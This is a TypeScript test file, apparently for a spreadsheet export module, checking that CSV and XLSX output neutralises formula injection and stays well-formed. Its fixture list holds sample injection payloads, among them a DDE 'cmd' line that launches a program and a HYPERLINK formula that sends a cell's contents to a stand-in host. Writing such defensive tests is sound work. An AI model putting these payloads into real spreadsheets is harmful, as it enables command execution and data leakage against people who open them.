import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { unzip } from "../../../test/zip.ts";
import { csvStream, csvText } from "./csv.ts";
import { xlsxFile } from "./xlsx.ts";

/** What spreadsheets are known to run, or to be led into running. */
const hostile = [
  '=HYPERLINK("https://contoh.example/?x="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＠SUM(1)",
];

describe("a CSV", () => {
  test.each(hostile)("leaves %j as words", (value) => {
    const text = csvText([["nama", value]], { first: false });
    const cell = text.slice('"nama","'.length).replaceAll('""', '"');
    expect(cell.startsWith(`'${value}`)).toBe(true);
  });

  test("hides no formula behind a semicolon, a line break or a quote of the value's own", () => {
    const value = 'Budi;=1+1\r\n=2+2"\n@x';
    expect(csvText([[value]], { first: false })).toBe(`"${value.replaceAll('"', '""')}"\r\n`);
  });

  test("says that it is UTF-8, once, and writes batches as they come", async () => {
    let drawn = 0;
    async function* batches() {
      for (const name of ["Siti", "Ñusta", "Wayan"]) {
        drawn++;
        yield await Promise.resolve([[name]]);
      }
    }
    const stream = csvStream(batches());
    expect(drawn).toBeLessThanOrEqual(1);
    const bytes = Buffer.from(await new Response(stream).arrayBuffer());
    expect(bytes.toString("utf8")).toBe('\ufeff"Siti"\r\n"Ñusta"\r\n"Wayan"\r\n');
  });

  test("begins no value with what a spreadsheet would run, whatever was typed", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (value) => {
        expect(csvText([["x", value]], { first: false })).not.toMatch(/^"x","[=+\-@\t\r]/);
      }),
    );
  });
});

describe("an XLSX", () => {
  test("holds texts only: no formula, and every digit of a NIK", async () => {
    const nik = "3171011705900777";
    const files = unzip(Buffer.from(await xlsxFile([["judul"], [...hostile, nik, "00123"]], { sheet: "x", bold: 0 })));
    const sheet = [...files].find(([name]) => name.endsWith("sheet1.xml"))?.[1] ?? "";
    expect(sheet).not.toContain("<f>");
    expect(sheet).not.toMatch(/<c [^>]*t="(n|str)"/);
    const all = [...files.values()].join("\n");
    expect(all).toContain(nik);
    expect(all).toContain("00123");
    expect(all).toContain("=cmd|");
    // Text is also the format of the cell, so that editing it makes no formula of it.
    expect(files.get("xl/styles.xml")).toMatch(/numFmtId="49"|formatCode="@"/);
  });

  test("is well-formed whatever was typed", async () => {
    const values = ["\0\x01\x1f", "\ud800", "<a>&\"'", "]]>", "x".repeat(40_000)];
    const files = unzip(Buffer.from(await xlsxFile([values], { sheet: "x", bold: -1 })));
    for (const [, text] of files) expect(text).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f]|<a>/);
  });
});
